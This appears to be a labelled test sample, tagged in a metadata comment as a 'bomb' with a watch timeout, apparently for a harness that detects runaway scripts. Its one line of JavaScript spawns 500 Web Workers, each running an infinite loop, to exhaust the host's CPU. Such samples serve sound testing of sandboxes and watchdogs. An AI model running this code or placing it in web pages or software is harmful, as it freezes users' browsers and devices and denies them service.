/* {"family": "bombs", "bomb": true, "watch": 4000} */
for (let i = 0; i < 500; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);'])));
